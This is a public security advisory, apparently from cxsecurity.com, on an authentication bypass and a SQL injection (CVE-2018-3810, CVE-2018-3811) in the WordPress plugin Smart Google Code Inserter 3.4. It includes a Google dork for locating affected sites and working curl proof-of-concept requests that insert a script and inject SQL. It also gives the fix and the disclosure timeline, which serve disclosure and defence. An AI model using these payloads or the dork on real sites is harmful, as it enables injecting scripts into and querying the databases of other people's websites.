WordPress Plugin Smart Google Code Inserter < 3.5 Authentication Bypass / SQL Injection

Credit: Benjamin Lim
Risk: Medium
Local: No
Remote: Yes

Exploit Title: Smart Google Code Inserter < 3.5 - Auth Bypass/SQLi Google Dork: inurl:wp-content/plugins/smart-google-code-inserter/ Date: 26-Nov-17 Exploit Author: Benjamin Lim Vendor Homepage: http://oturia.com/ Software Link: https://wordpress.org/plugins/smart-google-code-inserter/ Version: 3.4 Tested on: Kali Linux 2.0 CVE : CVE-2018-3810 (Authentication Bypass with resultant XSS) CVE : CVE-2018-3811 (SQL Injection) 1. Product & Service Introduction: === Smart Google Code Inserter is a Wordpress plugin that makes it easy to add Google Analytics tracking code as well as meta tag verification of Webmaster Tools. As of now, the plugin has been downloaded 34,207 times and has 9,000+ active installs. 2. Technical Details & Description: === Authentication Bypass vulnerability in the Smart Google Code Inserter plugin 3.4 allows unauthenticated attackers to insert arbitrary javascript or HTML code which runs on all pages served by Wordpress. The saveGoogleCode() function in smartgooglecode.php does not check if the current request is made by an authorized user, thus allowing any unauthenticated user to successfully update the inserted code. SQL Injection vulnerability, when coupled with the Authentication Bypass vulnerability in the Smart Google Code Inserter plugin 3.4 allows unauthenticated attackers to execute SQL queries in the contextof the webserver. The saveGoogleAdWords() function in smartgooglecode.php did not use prepared statements and did not sanitize the $_POST["oId"] variable before passing it as input into the SQL query. 3. Proof of Concept (PoC): === Code Insertion curl -k -i --raw -X POST -d "sgcgoogleanalytic=<script>alert("1");</script>&sgcwebtools=&button=Save+Changes&action=savegooglecode" "http://localhost/wp-admin/options-general.php?page=smartcode" -H "Host: localhost" -H "Content-Type: application/x-www-form-urlencoded" SQL Injection curl -k -i --raw -X POST -d "action=saveadwords&delconf=1&oId[]=1 OR 1=1--&ppccap[]=ex:mywplead&ppcpageid[]=1&ppccode[]=bb&nchkdel1=on" " http://localhost/wp-admin/options-general.php?page=smartcode" -H "Host: localhost" -H "Content-Type: application/x-www-form-urlencoded" 4. Mitigation === Update to version 3.5 5. Disclosure Timeline === 2017/11/29 Vendor contacted 2017/11/30 Vendor acknowleged and released an update 2018/01/01 Advisory released to the public 6. Credits & Authors: === Benjamin Lim - [https://limbenjamin.com]

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 |date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2018,cxsecurity.com


Back to Top